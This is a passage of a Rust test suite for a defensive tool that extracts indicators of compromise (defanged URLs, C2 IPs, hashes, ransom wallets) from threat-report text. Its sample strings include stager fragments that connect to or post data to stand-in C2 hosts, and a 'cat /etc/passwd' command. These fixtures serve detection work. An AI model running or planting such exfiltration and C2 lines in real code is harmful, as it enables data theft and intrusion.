        ])
    );
}

#[test]
fn a_url_path_may_hold_japanese_segments() {
    // A Japanese path segment with a `/` after it is part of the URL; a
    // Japanese word right after a URL is not.
    let text = "https://evil.com/パス/x.php は危険。hxxps://evil[.]com/資料/2024/a.zip を配布。\
                https://evil.com/dl/請求書.zip も。https://evil.com/へ接続。";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("url", "https://evil.com/%E3%83%91%E3%82%B9/x.php"),
            ("url", "https://evil.com/%E8%B3%87%E6%96%99/2024/a.zip"),
            ("url", "https://evil.com/dl/%E8%AB%8B%E6%B1%82%E6%9B%B8.zip"),
            ("url", "https://evil.com/"),
        ])
    );
}

#[test]
fn times_of_day_are_not_ssdeep_hashes() {
    // A block size of 3·2ⁿ and two "base64" parts of digits: every time
    // of day had the shape of an ssdeep hash.
    let text = "Mar 14 12:31:02 fw01 %ASA-4-106023: Deny tcp\n\
                2024-03-14 03:40:11 UTC alert raised; window 24:00:00, ratio 6:1:2.\n\
                ssdeep 96:7S2bNjZzJ5bKKIb2D4ZgD0eDGF:7S2bR6Ib2DqgYT and \
                3:hMCEpFrjv:hucZ (a tiny dropper).";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("ssdeep", "96:7S2bNjZzJ5bKKIb2D4ZgD0eDGF:7S2bR6Ib2DqgYT"),
            ("ssdeep", "3:hMCEpFrjv:hucZ"),
        ])
    );
    // The IPv6 forms with colons still parse, and an address's port too.
    assert_eq!(
        found("fe80::1 and 2001:db8:0:0:0:0:0:7 and ::ffff:198.51.100.7 at 12:30"),
        kinds_values(&[
            ("ipv6", "fe80::1"),
            ("ipv6", "2001:db8::7"),
            ("ipv6", "::ffff:198.51.100.7"),
        ])
    );
}

#[test]
fn a_value_after_a_label_without_a_space_is_found() {
    // ASA logs, SIEM exports and analyst notes glue the value to its label.
    let text = "%ASA-4-106023: Deny tcp src outside:198.18.33.14/4444 dst inside:10.20.31.44/49822\n\
                C2:203.0.113.104 IP:192.0.2.77 dst:198.51.100.9 host:evil-c2.com \
                C2:update-relay[.]net peer:relay.evil-c2.org:8443";
    assert_eq!(
        found_raw(text),
        raw_matches(&[
            ("ipv4", "198.18.33.14", "198.18.33.14", false),
            ("ipv4", "10.20.31.44", "10.20.31.44", false),
            ("ipv4", "203.0.113.104", "203.0.113.104", false),
            ("ipv4", "192.0.2.77", "192.0.2.77", false),
            ("ipv4", "198.51.100.9", "198.51.100.9", false),
            ("domain", "evil-c2.com", "evil-c2.com", false),
            ("domain", "update-relay.net", "update-relay[.]net", true),
            ("host-port", "relay.evil-c2.org:8443", "relay.evil-c2.org:8443", false),
        ])
    );
    // What already held a colon keeps its meaning: URLs, drive paths,
    // registry keys, host and port, IPv6, hashes, ATT&CK ids, AV names.
    let text = "hxxps://evil-c2[.]com/a C:\\Users\\Public\\run.exe HKLM:\\Software\\Run \
                evil-c2.com:443 2001:db8::7 md5:0cc175b9c0f1b6a831c399e269772661 \
                T1059.001: HEUR:Backdoor.MSIL.Crysan.gen not-a-virus:AdWare.Agent.com \
                std::string mailto:ops@evil-c2.com";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("url", "https://evil-c2.com/a"),
            ("file-path", "C:\\Users\\Public\\run.exe"),
            ("registry-key", "HKEY_LOCAL_MACHINE\\Software\\Run"),
            ("host-port", "evil-c2.com:443"),
            ("ipv6", "2001:db8::7"),
            ("md5", "0cc175b9c0f1b6a831c399e269772661"),
            ("attack-technique", "T1059.001"),
            ("email", "ops@evil-c2.com"),
        ])
    );
}

#[test]
fn the_first_quoted_argument_of_a_call_is_found() {
    // PowerShell, Python and JS stagers pass the C2 as the first argument.
    let text = "$t.GetMethod('Connect').Invoke($null, @('198.51.100.18', '8443'))\n\
                s.connect('203.0.113.18'); connect('evil-c2.com') list('192.0.2.18', 'relay-c2.net')\n\
                sock.connect(203.0.113.44) SaveToFile('out.txt') f('https://evil-c2.com/a')";
    assert_eq!(
        found_raw(text),
        raw_matches(&[
            ("ipv4", "198.51.100.18", "198.51.100.18", false),
            ("ipv4", "203.0.113.18", "203.0.113.18", false),
            ("domain", "evil-c2.com", "evil-c2.com", false),
            ("ipv4", "192.0.2.18", "192.0.2.18", false),
            ("domain", "relay-c2.net", "relay-c2.net", false),
            ("ipv4", "203.0.113.44", "203.0.113.44", false),
            ("file-name", "out.txt", "out.txt", false),
            ("url", "https://evil-c2.com/a", "https://evil-c2.com/a", false),
        ])
    );
    // Code that is no literal stays code.
    assert_eq!(found("os.path.join(base, name) getElementById('main') range(10)"), []);
}

#[test]
fn a_url_keeps_the_equals_signs_that_end_its_query() {
    let text = "<a href=\"https://docs-share.example-cdn.net/review?id=6f1b2c&u=ZmluYW5jZQ==\">\n\
                hxxps[:]//staff-portal[.]net/payroll/adjust?emp= and https://e-v.com/p?x=1=.\n\
                See https://evil-c2.com/a?b=c, then (https://evil-c2.com/q?d=e).";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("url", "https://docs-share.example-cdn.net/review?id=6f1b2c&u=ZmluYW5jZQ=="),
            ("url", "https://staff-portal.net/payroll/adjust?emp="),
            ("url", "https://e-v.com/p?x=1="),
            ("url", "https://evil-c2.com/a?b=c"),
            ("url", "https://evil-c2.com/q?d=e"),
        ])
    );
}

#[test]
fn ids_paired_with_a_slash_are_both_found() {
    let text = "Log4Shell (CVE-2021-44228/CVE-2021-45046) and CVE-2023-46747/cve-2023-46748; \
                T1059.001/T1105 then https://nvd.nist.gov/vuln/detail/CVE-2024-30088/ and \
                CVE-2024-1234/patch.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("cve", "CVE-2021-44228"),
            ("cve", "CVE-2021-45046"),
            ("cve", "CVE-2023-46747"),
            ("cve", "CVE-2023-46748"),
            ("attack-technique", "T1059.001"),
            ("attack-technique", "T1105"),
            ("url", "https://nvd.nist.gov/vuln/detail/CVE-2024-30088/"),
            ("cve", "CVE-2024-1234"),
        ])
    );
}

#[test]
fn a_hyphen_inside_a_japanese_idn_label_keeps_it_whole() {
    // A-labels checked with Python's `idna`.
    let text = "別ドメイン「ケイディ-サポート.com」も確認。誘導先「国税-還付.jp」。\
                C2はevil-c2.comに接続。東京-大阪間の通信。";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("domain", "xn----geuc5cxa9hk1o3k.com"),
            ("domain", "xn----d06an4x701bqqx.jp"),
            ("domain", "evil-c2.com"),
        ])
    );
}

#[test]
fn a_version_after_a_product_part_is_not_an_address() {
    let text = "versions: sensor agent 7.10.3.2, FileVersion 10.0.19041.1, engine 1.1.24.3, \
                Radmin 3.5.2.1; the agent connects to 203.0.113.7 and agent: 198.51.100.4.";
    assert_eq!(found(text), kinds_values(&[("ipv4", "203.0.113.7"), ("ipv4", "198.51.100.4")]));
}

#[test]
fn a_form_on_a_forms_service_is_the_attackers() {
    let text = "a form at https://forms.office.com/r/Qw3ErT5yU7 collected passwords; \
                forms.office.com itself is Microsoft's.";
    assert_eq!(
        Extractor::new()
            .extract(text)
            .into_iter()
            .map(|m| (m.value(), m.disposition))
            .collect::<Vec<_>>(),
        [
            ("https://forms.office.com/r/Qw3ErT5yU7".to_owned(), Disposition::Indicator),
            ("forms.office.com".to_owned(), Disposition::Benign),
        ]
    );
}

#[test]
fn a_release_number_after_a_product_is_not_a_network() {
    // A network's own address with two-digit parts, after a product name.
    let text = "Affected: Qualys 10.26.1.0 and FortiOS 7.2.0.0; fixed in Qualys 10.27.0.0.";
    let got: Vec<_> = found(text).into_iter().filter(|(k, _)| k.starts_with("ipv")).collect();
    assert!(got.is_empty(), "{got:?}");
    // After a network word it is the network it names, and a host is a host.
    assert_eq!(
        found("Subnet 10.26.1.0 and the file server FS01 10.26.1.7 were reached."),
        kinds_values(&[("ipv4", "10.26.1.0"), ("ipv4", "10.26.1.7")])
    );
}

#[test]
fn an_ipv6_address_with_a_slash_port_is_the_address() {
    let text =
        "listened on 2a0d:5600:8:6::a1/8443 and 2001:db8::7/443; the block 2a0d:5600:8:6::/48.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("ipv6", "2a0d:5600:8:6::a1"),
            ("ipv6", "2001:db8::7"),
            ("ipv6-cidr", "2a0d:5600:8:6::/48"),
        ])
    );
    // The span is the address alone.
    let m = Extractor::new().extract(text);
    assert_eq!(m.first().map(|m| m.raw(text)), Some("2a0d:5600:8:6::a1"));
}

#[test]
fn a_defanged_address_in_a_query_has_its_own_span() {
    // `user[email][]=a@x&user[email][]=b@evil[.]com` (CVE-2023-7028): the
    // second address only, without the `=` of its key.
    let text =
        "user[email][]=t.sato@victim.example&user[email][]=recovery.mailbox77@tutamail[.]com";
    let m = Extractor::new().extract(text);
    let last = m.last().expect("a match");
    assert_eq!(last.value(), "recovery.mailbox77@tutamail.com");
    assert_eq!(last.raw(text), "recovery.mailbox77@tutamail[.]com");
}

#[test]
fn what_a_bulletin_says_of_a_release_makes_it_no_address() {
    let text = "Veeam Backup & Replication 12.1.1.56 fixes it; Agent 4.2.1.7 or later is safe.\n\
                meta: version = \"2.6.0.1\"\n微信版本（本次样本中为3.9.8.25）\n\
                C2=45.61.137.18, c2: \"5.8.18.7\", and the host 23.94.5.13 and later 5.8.18.9.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("ipv4", "45.61.137.18"),
            ("ipv4", "5.8.18.7"),
            ("ipv4", "23.94.5.13"),
            ("ipv4", "5.8.18.9"),
        ])
    );
}

#[test]
fn packages_and_record_fields_are_not_domains() {
    let text = "dns.question.name : (x) and not user.name : \"svc\" by host.id; SELECT p.name FROM t\n\
                | com.qrscan.reader.app | 1.0.7 | io.flashcleaner.pro | androidx.work |\n\
                The C2 is evil-update.name and files.example-cdn.io.";
    assert_eq!(
        found(text),
        kinds_values(&[("domain", "evil-update.name"), ("domain", "files.example-cdn.io")])
    );
}

#[test]
fn an_xml_quote_entity_ends_a_url() {
    let text = "<Data Name=\"CommandLine\">x.exe --cfg &quot;https://cdn-ocsp.veritrust-pki.com/p/cfg.bin&quot; --sleep 45</Data>";
    assert_eq!(
        found(text).into_iter().filter(|(k, _)| k == "url").collect::<Vec<_>>(),
        kinds_values(&[("url", "https://cdn-ocsp.veritrust-pki.com/p/cfg.bin")])
    );
}

#[test]
fn an_indicator_a_line_break_cut_goes_on_at_the_next_line() {
    // Text taken from a PDF: the break falls after a defang dot, a hyphen,
    // `www.` or a path's `/`; the next line may be indented.
    let text = "The loader beaconed to update[.]\nstratus-metrics[.]net and files.marine-claims-\n   \
                portal[.]net. The second stage came from\n\
                hxxps://static-cdn[.]mirrorleaf-assets[.]com/content/v2/\ninvoice-viewer.hta. Mail from \
                claims.desk@marine-claims-\nportal[.]net; see https://www.\nsec-insights-blog.com/2023/x.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("domain", "update.stratus-metrics.net"),
            ("domain", "files.marine-claims-portal.net"),
            ("url", "https://static-cdn.mirrorleaf-assets.com/content/v2/invoice-viewer.hta"),
            ("email", "claims.desk@marine-claims-portal.net"),
            ("url", "https://www.sec-insights-blog.com/2023/x"),
        ])
    );
    // The span runs over the break.
    let m = Extractor::new().extract(text);
    assert_eq!(m.first().map(|m| m.raw(text)), Some("update[.]\nstratus-metrics[.]net"));
}

#[test]
fn a_list_or_a_log_line_after_a_link_is_its_own() {
    let text = "http://a-evil.top/x/\nhttp://b-evil.top/y/\nhxxp://c-evil[.]top/\nd-evil[.]top\n\
                2024-04-22,allowed,https://teams.microsoft.com/\n2024-04-22,blocked,x\n\
                Visit https://example-vendor.com/\nThe next line is prose.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("url", "http://a-evil.top/x/"),
            ("url", "http://b-evil.top/y/"),
            ("url", "http://c-evil.top/"),
            ("domain", "d-evil.top"),
            ("url", "https://teams.microsoft.com/"),
            ("url", "https://example-vendor.com/"),
        ])
    );
    // The next line of a configuration file: a name and `=`.
    let config = "KINTONE_BASE_URL=https://tenant.kintone.com/k/42/\n\
                  KINTONE_API_TOKEN=Xk9w2Lp0QeR7tYu1\nAPP_URL=https://a-evil.top/x/\nid=3&b=4";
    assert_eq!(
        found(config),
        kinds_values(&[
            ("url", "https://tenant.kintone.com/k/42/"),
            ("url", "https://a-evil.top/x/"),
        ])
    );
}

#[test]
fn a_build_updated_to_a_release_is_no_address() {
    // A version word, then `to` or `from`, before a dotted number of small
    // parts; a larger number after the same words is where something went.
    let text = "They updated the build to 3.1.4.2 on Monday. Обновили билд до 3.1.4.2 вчера. \
                Then they moved the build to 45.12.3.4.";
    assert_eq!(found(text), kinds_values(&[("ipv4", "45.12.3.4")]));
}

#[test]
fn a_form_field_and_a_forensics_plugin_are_not_domains() {
    let text = "The skimmer reads `form.email` and posts it; run vol -f mem.raw windows.info | grep \
                Kernel; the C2 is skim-cdn.info.";
    assert_eq!(found(text), kinds_values(&[("domain", "skim-cdn.info")]));
}

#[test]
fn a_footnote_mark_is_no_part_of_an_indicator() {
    let text = "The operators used 45.153.160.0/24).⁷ and later 45.137.21[.]93³ and cdn-sync.net²; \
                see note¹.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("ipv4-cidr", "45.153.160.0/24"),
            ("ipv4", "45.137.21.93"),
            ("domain", "cdn-sync.net"),
        ])
    );
}

#[test]
fn reverse_lookup_names_and_empty_password_hashes_are_context() {
    let text = "PTR 84.115.243.185.in-addr.arpa -> vps.evil-host.net\n\
                Accounts without a password: LM aad3b435b51404eeaad3b435b51404ee, \
                NT 31d6cfe0d16ae931b73c59d7e0c089c0.";
    let got = values_and_dispositions(text);
    let want = [
        ("84.115.243.185.in-addr.arpa", Disposition::Benign),
        ("vps.evil-host.net", Disposition::Indicator),
        ("aad3b435b51404eeaad3b435b51404ee", Disposition::Benign),
        ("31d6cfe0d16ae931b73c59d7e0c089c0", Disposition::Benign),
    ];
    let want = owned(&want);
    assert_eq!(got, want);
}

#[test]
fn a_url_cut_in_its_query_or_in_a_quoted_reply_goes_on() {
    let text = "> The lure pointed to https://evil-share.example.net/sites/x/Forms/AllItems.aspx?\n\
                > id=INV-2024-0312&web=1 and to https://cdn.evil-share.example.net/assets/\n\
                > o365.js as well.\nDid you log in at https://evil-login.example.net/login?\n\
                The next day it was gone.";
    assert_eq!(
        found(text),
        kinds_values(&[
            (
                "url",
                "https://evil-share.example.net/sites/x/Forms/AllItems.aspx?id=INV-2024-0312&web=1"
            ),
            ("url", "https://cdn.evil-share.example.net/assets/o365.js"),
            ("url", "https://evil-login.example.net/login"),
        ])
    );
}

#[test]
fn government_sites_are_references_and_defanged_links_are_the_attackers() {
    let text = "See https://cyber.gouv.fr/publications/hameconnage and \
                https://advisories.ncert.gov.mt/2024/02/pelican-c2 and https://www.bsi.bund.de/a/b.html. \
                C2 over hxxp://twitter[.]com/xzg3a2e2z and hxxps://www.github[.]com/kurenkov2014/attachments, \
                stage 2 at hxxp://www.florestal.gov[.]br/pngf/images/banners/b1/index.php; \
                connectivity check hxxps://www.google[.]com/.";
    let got = values_and_dispositions(text);
    let want = [
        ("https://cyber.gouv.fr/publications/hameconnage", Disposition::Reference),
        ("https://advisories.ncert.gov.mt/2024/02/pelican-c2", Disposition::Reference),
        ("https://www.bsi.bund.de/a/b.html", Disposition::Benign),
        ("http://twitter.com/xzg3a2e2z", Disposition::Indicator),
        ("https://www.github.com/kurenkov2014/attachments", Disposition::Indicator),
        ("http://www.florestal.gov.br/pngf/images/banners/b1/index.php", Disposition::Indicator),
        ("https://www.google.com/", Disposition::Benign),
    ];
    let want = owned(&want);
    assert_eq!(got, want);
}

#[test]
fn a_plain_word_cut_at_its_hyphen_joins_the_defanged_name_on_the_next_line() {
    // The first part holds nothing the scanner stops at; the second part,
    // at the start of the next line (indented or not), is defanged.
    let text = "It registered the victim at telemetry-\nrelay[.]org.¹ Then it beaconed to \
                cdn-\n   sync-node[.]net and to plain-\nwords here.";
    assert_eq!(
        found(text),
        kinds_values(&[("domain", "telemetry-relay.org"), ("domain", "cdn-sync-node.net")])
    );
    let m = Extractor::new().extract(text);
    assert_eq!(m.first().map(|m| m.raw(text)), Some("telemetry-\nrelay[.]org"));
}

#[test]
fn ransom_wallets_are_found_when_their_checksum_holds() {
    // A ransom note and an IoC table (addresses from ESET's KryptoCibule
    // and Mekotio lists, and the Monero general fund's).
    let text = "Pay 0.35 BTC to bc1q8rmdq7k3yfpupadvvkd430vdjwva72hua0gst4 (or \
                3ATq2KXvPw9TEv6w8ED1ig8A71gB8ZcZpw).\n\
                | XMR | 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A |\n\
                Mekotio: 1PkVmYNiT6mobnDgq8M6YLXWqFraW2jdAk.\n\
                Typo'd in the note: 1PkVmYNiT6mobnDgq8M6YLXWqFraW2jdAm; sample 3b1c5d7e9f1a2b3c4d5e6f7a8b9c1d2e; \
                build id 1234ABCDEFGHJKLMNPQRSTUVWXYZabcde.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("crypto-wallet", "bc1q8rmdq7k3yfpupadvvkd430vdjwva72hua0gst4"),
            ("crypto-wallet", "3ATq2KXvPw9TEv6w8ED1ig8A71gB8ZcZpw"),
            (
                "crypto-wallet",
                "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
            ),
            ("crypto-wallet", "1PkVmYNiT6mobnDgq8M6YLXWqFraW2jdAk"),
            ("md5", "3b1c5d7e9f1a2b3c4d5e6f7a8b9c1d2e"),
        ])
    );
}

#[test]
fn a_wallet_after_a_label_or_in_a_payment_link_is_found() {
    let text = "BTC:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa and \
                bitcoin:3ATq2KXvPw9TEv6w8ED1ig8A71gB8ZcZpw?amount=0.5 \
                but not host:1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb";
    let m = Extractor::new().extract(text);
    let raws: Vec<&str> = m.iter().map(|m| m.raw(text)).collect();
    assert_eq!(raws, ["1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "3ATq2KXvPw9TEv6w8ED1ig8A71gB8ZcZpw"]);
}

#[test]
fn a_certificate_fingerprint_in_colon_form_is_its_digest() {
    // `openssl x509 -fingerprint` output; the serial number above it has
    // the same shape and is no digest.
    let text = "    Serial Number:\n        3c:9e:41:d7:0b:6a:f2:88:15:c4:e0:7d:93:2a:bb:61:f5:08:ce:47\n\
                sha256 Fingerprint=3C:9E:41:D7:0B:6A:F2:88:15:C4:E0:7D:93:2A:BB:61:F5:08:CE:47:1D:A3:6E:90:2C:B5:18:F4:7A:D3:06:9B\n\
                Thumbprint (SHA-1): AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01\n";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("sha256", "3c9e41d70b6af28815c4e07d932abb61f508ce471da36e902cb518f47ad3069b"),
            ("sha1", "abcdef0123456789abcdef0123456789abcdef01"),
        ])
    );
}

#[test]
fn a_serial_number_in_hex_pairs_is_no_ipv6_address() {
    let text =
        "Serial Number: 4f:3a:09:91:c2:7e:55:10\nC2 2a01:4f8:c17:3b1a::1 and fe80:0:0:0:a:b:c:d";
    assert_eq!(
        found(text),
        kinds_values(&[("ipv6", "2a01:4f8:c17:3b1a::1"), ("ipv6", "fe80::a:b:c:d")])
    );
}

#[test]
fn full_width_square_bracket_defangs_are_refanged() {
    // A Japanese advisory defangs with full-width brackets.
    let text = "・C2サーバ：　45［.］61［.］136［.］14\n\
                ・取得元：　hxxps://cdn-ivanti-upd［.］com/assets/dsls.tar\n\
                「gigabit-micro［.］com」、［注］本文［参考］";
    let m = Extractor::new().extract(text);
    let got: Vec<(String, String, &str, bool)> =
        m.iter().map(|m| (m.kind().id().to_owned(), m.value(), m.raw(text), m.defanged)).collect();
    assert_eq!(
        got,
        [
            ("ipv4".to_owned(), "45.61.136.14".to_owned(), "45［.］61［.］136［.］14", true),
            (
                "url".to_owned(),
                "https://cdn-ivanti-upd.com/assets/dsls.tar".to_owned(),
                "hxxps://cdn-ivanti-upd［.］com/assets/dsls.tar",
                true
            ),
            ("domain".to_owned(), "gigabit-micro.com".to_owned(), "gigabit-micro［.］com", true),
        ]
    );
}

#[test]
fn string_escapes_end_an_indicator_but_not_a_path() {
    // A notebook, a log line or a script's string escapes line breaks,
    // tabs and the closing quote.
    let text = r#"{"source": ["c2 45.142.214.88\nnext line", "see https://evil.example-c2.top/x.py\n", "sha256=3ac0d1e2f3a4b5c6d7e8f90112233445566778899aabbccddeeff00112233445\r\n", "r = post(\"https://ingest.example-c2.top/in?k=abc\", data)", "cat /etc/passwd\tdone"]}"#;
    assert_eq!(
        found(text),
        kinds_values(&[
            ("ipv4", "45.142.214.88"),
            ("url", "https://evil.example-c2.top/x.py"),
            ("sha256", "3ac0d1e2f3a4b5c6d7e8f90112233445566778899aabbccddeeff00112233445"),
            ("url", "https://ingest.example-c2.top/in?k=abc"),
            ("file-path", "/etc/passwd"),
        ])
    );
    // The same letters after a backslash in a Windows path are its names.
    let text = r#"C:\new\tools\x.exe, $env:Temp\test10.lnk, .\rclone.exe and "C:\Temp\""#;
    assert_eq!(
        found(text),
        kinds_values(&[("file-path", r"C:\new\tools\x.exe"), ("file-path", r"C:\Temp\")])
    );
}

#[test]
fn json_unicode_escapes_end_an_indicator() {
    // A Slack or Teams export escapes Japanese text as `\uXXXX`.
    let text = r#"{"text":"C2 https://bassizcellskz.shop/api\u3001\u30ed\u30fc\u30c0 SHA-256 fbc38a97325535c28bd828ff6412f22b14638ca0e51ac6a0e7caa2ade5a2e12d\u3002 \u300chxxp://evil-cdn[.]top/g.php\u300d"}"#;
    assert_eq!(
        found(text),
        kinds_values(&[
            ("url", "https://bassizcellskz.shop/api"),
            ("sha256", "fbc38a97325535c28bd828ff6412f22b14638ca0e51ac6a0e7caa2ade5a2e12d"),
            ("url", "http://evil-cdn.top/g.php"),
        ])
    );
    // A message in Japanese with no space holds many parts between escapes.
    let text = r#"{"text":"\u5148\u306bhttps://a-cdn.top/x\u3001b-cdn.top\u3001c-cdn.top\u3001d-cdn.top\u3001e-cdn.top\u3001f-cdn.top\u3002"}"#;
    let values: Vec<String> = found(text).into_iter().map(|(_, v)| v).collect();
    assert_eq!(
        values,
        ["https://a-cdn.top/x", "b-cdn.top", "c-cdn.top", "d-cdn.top", "e-cdn.top", "f-cdn.top"]
    );
    // An escaped backslash starts no escape: `:\\` of a defanged scheme
    // before a host that begins `u` and four hex digits (found by the
    // property test of defanged indicators in prose).
    assert_eq!(
        found(r"C2: h**p:\\u0000a{dot}com/ for C2."),
        kinds_values(&[("url", "http://u0000a.com/")])
    );
}

#[test]
fn versions_after_a_foreign_version_word_a_program_or_before_an_architecture_are_no_addresses() {
    let text = "instala o Grandoreiro (versão interna 4.3.2.1, segundo a string de build).\n\
                Install Quick Assist (quickassist.exe 2.0.0.3) first.\n\
                \"33821f3d37d859733f2ebb85d8c04f9a\",\"SystemBC 3.1.2.4 x64\",1\n\
                The loader beacons to 4.3.2.1 and 5.1.2.3.";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("file-name", "quickassist.exe"),
            ("md5", "33821f3d37d859733f2ebb85d8c04f9a"),
            ("ipv4", "4.3.2.1"),
            ("ipv4", "5.1.2.3"),
        ])
    );
}

#[test]
fn an_underscored_file_name_under_a_file_like_tld_is_no_domain() {
    let kinds: Vec<(String, String)> =
        found("Drainer kit archive: inferno_v1.6.2_clean.zip; C2 panel-v2.zip-cloud.top")
            .into_iter()
            .filter(|(k, _)| k == "domain")
            .collect();
    assert_eq!(kinds, kinds_values(&[("domain", "panel-v2.zip-cloud.top")]));
}

#[test]
fn a_numeric_host_is_a_dotted_quad_or_one_number() {
    let text =
        "filter: - 'http://10.10.' - 'http://192.168.1' and the real one http://3232235777/x";
    let urls: Vec<String> =
        found(text).into_iter().filter(|(k, _)| k == "url").map(|(_, v)| v).collect();
    assert_eq!(urls, ["http://192.168.1.1/x"]);
}

#[test]
fn names_customers_chose_on_hosting_platforms_are_indicators() {
    let text = "Payload at storage-nfe[.]azureedge[.]net and upd7a.s3.us-east-2.amazonaws.com; \
                relay.instance-ab12cd.screenconnect.com; the endpoint s3.us-east-2.amazonaws.com \
                is the platform's. Contact ew-info@jpcert.or.jp.";
    let got: Vec<(String, Disposition)> =
        Extractor::new().extract(text).into_iter().map(|m| (m.value(), m.disposition)).collect();
    assert_eq!(
        got,
        [
            ("storage-nfe.azureedge.net".to_owned(), Disposition::Indicator),
            ("upd7a.s3.us-east-2.amazonaws.com".to_owned(), Disposition::Indicator),
            ("relay.instance-ab12cd.screenconnect.com".to_owned(), Disposition::Indicator),
            ("s3.us-east-2.amazonaws.com".to_owned(), Disposition::Benign),
            ("ew-info@jpcert.or.jp".to_owned(), Disposition::Reference),
        ]
    );
}

#[test]
fn a_link_list_that_ends_does_not_run_into_the_next_line() {
    let text = "Other kits:\n  hxxps://outlook-verify-session[.]top/owa/\n  \
                hxxps://wetransfer-files-download[.]com/dl/\nresults.txt on the open directory\n\
                A cut line: hxxps://cdn-sync[.]example-files[.]com/content/v2/\ninvoice-viewer.hta here.\n";
    let urls: Vec<String> =
        found(text).into_iter().filter(|(k, _)| k == "url").map(|(_, v)| v).collect();
    assert_eq!(
        urls,
        [
            "https://outlook-verify-session.top/owa/",
            "https://wetransfer-files-download.com/dl/",
            "https://cdn-sync.example-files.com/content/v2/invoice-viewer.hta",
        ]
    );
}

#[test]
fn an_identifier_under_an_id_key_is_no_digest() {
    // An EDR alert: the customer and the sensor are named by 32 hex digits
    // (a GUID without dashes), the same length as an MD5. Under a key that
    // names an id they are identifiers, not digests; the file's own hashes
    // stay.
    let alert = r#"{
  "cid": "5e0c7a91d2b84f36a1c9e0d4b7f2a6c3",
  "device": {"device_id": "9b4d2e7f10c3a8b5e6d1f0a2c4b79e38", "hostname": "WS-0412"},
  "sessionId":"0f6a2c9e4b7d1a3c5e8f0b2d4a6c8e1f",
  "md5": "0c3bd7a0b2e1f49a8c6d5e4f3a2b1c0d",
  "sha256": "3a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19"
}"#;
    assert_eq!(
        found(alert),
        kinds_values(&[
            ("md5", "0c3bd7a0b2e1f49a8c6d5e4f3a2b1c0d"),
            ("sha256", "3a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19"),
        ])
    );
    // The same in a log line's `key=value` and `Key: value` forms; a key
    // that names a digest keeps it, whatever it ends with.
    let log = "aid=2c7e9a0f4b6d8e1a3c5f7b9d0e2a4c6f TraceId: 7d1f3b5a9c2e4f6a8b0d1e3f5a7c9b2d \
               file_md5_id=4a6c8e0f2b4d6f8a1c3e5a7b9d0f2e4c hash=8e0a2c4e6b8d0f1a3c5e7a9b1d3f5e7c";
    assert_eq!(
        found(log),
        kinds_values(&[
            ("md5", "4a6c8e0f2b4d6f8a1c3e5a7b9d0f2e4c"),
            ("md5", "8e0a2c4e6b8d0f1a3c5e7a9b1d3f5e7c"),
        ])
    );
}

#[test]
fn fingerprints_keys_and_ids_are_no_file_digests() {
    // Client fingerprints, the hash of a program's import table, keys and
    // build ids have a digest's length; their labels say what they are.
    let text = "JA3  3b70bf268fb62c56310e72e4fd233ca9\n\
                JA3S: 726429e0551f4f3833573dfb042cc66e\n\
                HASSH (ssh client) 6495cd99dbe520d1c808e38823cabebf\n\
                alert tls any any -> any any (msg:\"x\"; ja3.hash; content:\"c07a0d18c3440b9b382ee2ea5d23130a\"; sid:1;)\n\
                condition: pe.imphash() == \"ebcbbe2bd47c4e802dd37c8f785365f2\"\n\
                {\"rc4_key\": \"10ba0e8ed459d0a491ef14a77bf2ee19\", \"build_id\": \"0d1dae042f737089e51d06cb9b20fbf99f305dae\",\n\
                 \"pubkey_sha1\": \"959c8503bd0791feb71543a10e5fe92e604588c6\", \"sha1\": \"a94a8fe5ccb19ba61c4c0873d391e987982fbbd3\"}\n\
                Hashes=MD5=0c3bd7a0b2e1f49a8c6d5e4f3a2b1c0d,SHA256=3a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19,IMPHASH=8b9d95465ca6814a35adbc3f209620d7\n\
                session key=9f1c, md5: 44d88612fea8a8f36de82e1278abb02f\n";
    assert_eq!(
        found(text),
        kinds_values(&[
            ("sha1", "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"),
            ("md5", "0c3bd7a0b2e1f49a8c6d5e4f3a2b1c0d"),
            ("sha256", "3a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19"),
            ("md5", "44d88612fea8a8f36de82e1278abb02f"),
        ])
    );
}

#[test]
fn label_words_inside_hosts_name_no_digest() {
    // `ja3`, `key`, `salt` inside a host name or an address listed before
    // a digest are part of that name, not the digest's label.
    let text = "0ja3[.]com and a94a8fe5ccb19ba61c4c0873d391e987982fbbd3\n\
                keystone-cdn.net, 44d88612fea8a8f36de82e1278abb02f\n\
                ops@salty-jarm.io / hxxp://imphash.top/a.php 3a1f0e9d8c7b6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19\n";
    let got = found(text);
    for want in [
        ("sha1", "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3"),
        ("md5", "44d88612fea8a8f36de82e1278abb02f"),
